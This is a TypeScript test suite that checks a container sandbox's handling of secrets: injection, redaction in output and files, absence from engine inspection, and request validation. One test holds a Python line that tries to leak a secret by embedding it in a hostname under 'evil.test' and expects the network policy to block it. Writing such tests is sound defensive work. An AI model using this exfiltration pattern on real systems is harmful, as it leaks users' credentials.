import { execFileSync } from "node:child_process";
import { once } from "node:events";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import http from "node:http";
import { tmpdir } from "node:os";
import path from "node:path";
import { text } from "node:stream/consumers";
import { afterAll, describe, expect, it } from "vitest";
import type { Alert, Glovebox, OperationEvent } from "../helpers/wire-glovebox.ts";
import { openNetworkScene } from "../helpers/network-scene.ts";
import { useGlovebox } from "../helpers/open-glovebox.ts";
import { processesWith } from "../helpers/processes.ts";
import { testImages } from "../helpers/test-images.ts";

type Environments = Glovebox["environments"];
type CreateRequest = Parameters<Environments["create"]>[0];
type CommandRequest = Omit<Parameters<Environments["runCommand"]>[0], "env_id" | "command">;

/** Different in each run of the tests, so that leftovers of another run are not mistaken for a leak in this one. */
const chance = Math.random().toString(36).slice(2, 12);
const values = {
  KEY: `sk-Test'9+AbC/ß x!-${chance}`,
  LINES: `-----BEGIN KEY-----\nfirst-${chance}-line\nother-${chance}-line\n-----END KEY-----`,
  LOWER: `hunter2${chance}`,
};
const scene = await openNetworkScene();
const folder = mkdtempSync(path.join(tmpdir(), "glovebox-secrets-"));
for (const [name, value] of Object.entries(values)) writeFileSync(path.join(folder, name), value);
afterAll(() => {
  scene[Symbol.dispose]();
  rmSync(folder, { recursive: true });
});
const sources = Object.fromEntries(Object.keys(values).map((name) => [name, { file: path.join(folder, name) }]));
const settings = {
  ...scene.settings,
  images: testImages,
  secrets: { ...sources, AGENT: { file: path.join(folder, "KEY"), kinds: ["agent" as const] } },
};

const spelled = [values.KEY, values.LOWER, `first-${chance}-line`].flatMap((value) => [
  value,
  JSON.stringify(value).slice(1, -1),
  Buffer.from(value).toString("base64").replace(/.?=*$/, ""),
]);
function expectNoValue(shown: string): void {
  for (const value of spelled) expect(shown).not.toContain(value);
}

/** What the engine reports about a container, and about programs that it knows in it: none. */
async function inspections(engine: string, container: string): Promise<string> {
  const socketPath =
    engine === "docker"
      ? "/var/run/docker.sock"
      : (process.env["GLOVEBOX_TEST_PODMAN_SOCKET"] ?? "/run/podman/podman.sock");
  const get = async (url: string): Promise<string> => {
    const [response] = await once(http.get({ socketPath, path: url }), "response");
    return text(response as http.IncomingMessage);
  };
  const inspected = await get(`/v1.40/containers/${container}/json`);
  const { ExecIDs: execs } = JSON.parse(inspected) as { readonly ExecIDs: readonly string[] | null };
  expect(execs ?? []).toEqual([]);
  expect(inspected).toContain("/.glovebox/supervisor");
  return inspected;
}

describe.each(["docker", "podman"] as const)("secrets of environments on %s", (engine) => {
  const alerts: Alert[] = [];
  const glovebox = useGlovebox(engine, { settings, onAlert: (alert) => alerts.push(alert) });

  async function open(request: Partial<CreateRequest> = {}) {
    const { environments } = glovebox();
    const made = await environments.create({ image: testImages.python, ...request });
    const { env_id: id } = made;
    return {
      ...made,
      id,
      environments,
      sh: (script: string, more: CommandRequest = {}) =>
        environments.runCommand({ env_id: id, command: ["sh", "-c", script], ...more }),
      python: (code: string, more: CommandRequest = {}) =>
        environments.runCommand({ env_id: id, command: ["python3", "-c", code], ...more }),
      [Symbol.asyncDispose]: async () => {
        await environments.destroy({ env_id: id }).catch(() => undefined);
      },
    };
  }
  const lengths = `import os\nprint([len(os.environ.get(n, "")) for n in ("KEY", "LINES", "LOWER", "TOKEN")])`;

  it("reach every command, or the one that asks, under the names of the request", async () => {
    await using env = await open({ secrets: ["KEY", "LINES"] });
    const [key, lines, lower] = Object.values(values).map((value) => value.length);
    expect(await env.python(lengths)).toMatchObject({ stdout_tail: `[${key}, ${lines}, 0, 0]\n`, exit_code: 0 });
    const own = await env.python(lengths, { secrets: { TOKEN: "LOWER", KEY: "LOWER" } });
    expect(own.stdout_tail).toBe(`[${lower}, ${lines}, 0, ${lower}]\n`);
    expect((await env.python(lengths, { environment: { KEY: "x" } })).stdout_tail).toBe(`[1, ${lines}, 0, 0]\n`);
    expect((await env.python(lengths)).stdout_tail).toBe(`[${key}, ${lines}, 0, 0]\n`);
    const missing = await env.environments.runCommand({ env_id: env.id, command: ["no-such-program"] });
    expect(missing).toMatchObject({ exit_code: 127, stderr_tail: expect.stringContaining("no-such-program") });
  });

  it("are removed from both streams in the usual spellings, however they are split, and reported", async () => {
    await using env = await open({ secrets: ["KEY", "LINES"] });
    const code = `
import base64, json, os, sys, time
value = os.environ["KEY"]
print(value, json.dumps(value), base64.b64encode(value.encode()).decode(), flush=True)
for byte in value.encode():
    os.write(1, bytes([byte]))
    time.sleep(0.005)
os.write(1, b"\\n")
print(os.environ["LINES"], file=sys.stderr)`;
    const events: OperationEvent[] = [];
    const request = { env_id: env.id, command: ["python3", "-c", code] };
    const result = await env.environments.runCommand(request, { onEvent: (event) => void events.push(event) });
    expect(result.stdout_tail).toMatch(/^\[redacted:KEY\] "\[redacted:KEY\]" \[redacted:KEY\]=*\n\[redacted:KEY\]\n$/);
    expect(result.stderr_tail).toContain("[redacted:LINES]");
    expect(result.warnings.join()).toContain("The value of secret KEY was replaced by [redacted:KEY]");
    const written = events.flatMap((event) => (event.type === "output" ? [Buffer.from(event.bytes)] : []));
    expectNoValue(JSON.stringify(result) + Buffer.concat(written).toString() + JSON.stringify(events));
  });

  it("are taken out of what another command finds of them", async () => {
    await using env = await open();
    await env.sh('printf %s "$KEY" >/tmp/kept', { secrets: ["KEY"] });
    expect((await env.sh("cat /tmp/kept; echo; env")).stdout_tail).toMatch(/^\[redacted:KEY\]\n/);
    expectNoValue(JSON.stringify(await env.sh("cat /tmp/kept | base64; env")));
    const read = await glovebox().readFile({ env_id: env.id, path: "/tmp/kept" });
    expect(read).toMatchObject({ content: "[redacted:KEY]", warnings: [expect.stringContaining("KEY")] });
    await env.sh('mkdir /tmp/names; touch "/tmp/names/$LOWER"', { secrets: ["LOWER"] });
    const { files } = await glovebox().listFiles({ env_id: env.id, path: "/tmp/names" });
    expect(files.map(({ path: name }) => name)).toEqual(["[redacted:LOWER]"]);
  });

  it("are removed from a background process's output, at every offset", async () => {
    await using env = await open({ secrets: ["KEY"] });
    const code = `
import os, sys
while line := sys.stdin.readline():
    for byte in (line.strip() + os.environ["KEY"] + "\\n").encode():
        os.write(1, bytes([byte]))`;
    const { process_id: id } = await glovebox().processes.start({
      env_id: env.id,
      command: ["python3", "-c", code],
    });
    const target = { env_id: env.id, process_id: id };
    for (const text of ["one ", "two "]) await glovebox().processes.writeStdin({ ...target, text: `${text}\n` });
    await glovebox().processes.writeStdin({ ...target, close: true });
    const output = async (offset: number, most = 65_536): Promise<string> => {
      const { processes } = await glovebox().processes.list({ ...target, stdout_offset: offset, max_bytes: most });
      return processes[0]?.stdout?.text ?? "";
    };
    const whole = "one[redacted:KEY]\ntwo[redacted:KEY]\n";
    await expect.poll(() => output(0)).toBe(whole);
    for (const offset of [1, 5, 20]) expect(await output(offset)).toBe(whole.slice(offset));
    for (const offset of [0, 16]) expect(await output(offset, 16)).toBe(whole.slice(offset, offset + 16));
    expectNoValue(JSON.stringify(await glovebox().processes.list(target)));
  });

  it("show in no inspection of the engine, no process list and no file of ours", async () => {
    await using env = await open({ secrets: ["KEY", "LOWER"] });
    const ready = Promise.withResolvers<void>();
    const running = env.environments.runCommand(
      {
        env_id: env.id,
        command: ["sh", "-c", 'echo "$LOWER" ready; sleep 60'],
        environment: { PLAIN: `plain-${chance}` },
        timeout_seconds: 3,
      },
      { onEvent: ({ type }) => void (type === "output" && ready.resolve()) },
    );
    await ready.promise;
    const inspected = await inspections(engine, env.container_id);
    const withValue = processesWith((argv) => spelled.some((value) => argv.join("\0").includes(value)));
    const kept = engine === "podman" ? databaseOf(engine) : "";
    expect(await running).toMatchObject({ outcome: "timed_out", stdout_tail: "[redacted:LOWER] ready\n" });
    expect(withValue).toEqual([]);
    expectNoValue(inspected);
    expect(kept.includes(env.container_id)).toBe(engine === "podman");
    // No variable of a program reaches the engine at all.
    expect([inspected, kept].filter((text) => text.includes(`plain-${chance}`))).toEqual([]);
    expectNoValue(kept);
  });

  it("are taken out of the names that a refused connection asked for", async () => {
    alerts.length = 0;
    await using env = await open({ secrets: ["LOWER"], network: [scene.webAt] });
    const code = `import os, urllib.request\nurllib.request.urlopen("http://" + os.environ["LOWER"] + ".evil.test/")`;
    const result = await env.python(code, { timeout_seconds: 30 });
    expect(result).toMatchObject({
      outcome: "policy_denied",
      error: { context: { denials: [{ target: "[redacted:LOWER].evil.test:80" }] } },
    });
    expect(alerts.length).toBeGreaterThan(0);
    expectNoValue(JSON.stringify([result, alerts]));
  });

  it("are refused where they are asked for: by name, for the kind of sandbox, beside a variable of that name", async () => {
    for (const secrets of [["NOBODY"], ["AGENT"]]) {
      await expect(open({ secrets })).rejects.toMatchObject({
        errorType: "INVALID_REQUEST",
        context: { field: "secrets" },
      });
    }
    await expect(open({ secrets: ["KEY"], environment: { KEY: "x" } })).rejects.toMatchObject({
      errorType: "INVALID_REQUEST",
    });
    await using env = await open();
    await expect(env.sh("true", { secrets: ["AGENT"] })).rejects.toMatchObject({ errorType: "INVALID_REQUEST" });
  });
});

/** Everything that Podman keeps about containers and execs, as text. */
function databaseOf(podman: string): string {
  const root = execFileSync(podman, ["info", "--format", "{{.Store.GraphRoot}}"], { encoding: "utf8" }).trim();
  const file = [path.join(root, "libpod/bolt_state.db"), path.join(root, "db.sql")].find((name) => existsSync(name));
  return readFileSync(file ?? root, "latin1");
}
